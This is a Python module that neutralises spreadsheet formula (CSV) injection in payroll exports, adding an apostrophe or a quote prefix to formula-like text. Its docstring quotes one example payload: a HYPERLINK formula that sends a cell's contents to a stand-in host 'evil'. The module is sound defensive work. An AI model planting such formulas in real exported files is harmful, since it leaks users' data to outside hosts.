"""Cells safe to open in a spreadsheet: text that a spreadsheet would run as a formula is neutralised.

A roster, scenario or teacher name such as `=HYPERLINK("http://evil/?"&A1, "Click")` must reach
payroll as text, never as a live formula. Text starting with = + - @ a tab or a carriage return
is what Excel, LibreOffice and Google Sheets may read as a formula (OWASP, "CSV injection").

- CSV has no types, so such text gets a leading apostrophe: spreadsheets show it as text.
- XLSX has types: such text is written as a string cell with the "quote prefix" style, the
  same mark a spreadsheet sets when someone types an apostrophe first; the value is unchanged.

Plain numbers (`-120.50`) are left alone: they cannot be formulas, and payroll needs them exact.
"""

import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def is_formula_like(value: object) -> bool:
    """Whether a value is text a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value)


def csv_cell(value: object) -> object:
    """A value for a CSV cell: formula-like text gets a leading apostrophe, everything else is as given."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[object]) -> list[object]:
    """A row of values for csv.writer, each made safe by `csv_cell`."""
    return [csv_cell(value) for value in values]


def xlsx_append(sheet, values: Iterable[object]) -> None:
    """Append a row to an openpyxl sheet; formula-like text becomes a quote-prefixed string cell, never a formula."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if is_formula_like(value):
            cell = sheet.cell(row=row, column=column)
            cell.value = value
            cell.data_type = "s"  # openpyxl types text starting with "=" as a formula; this keeps it text
            cell.quotePrefix = True
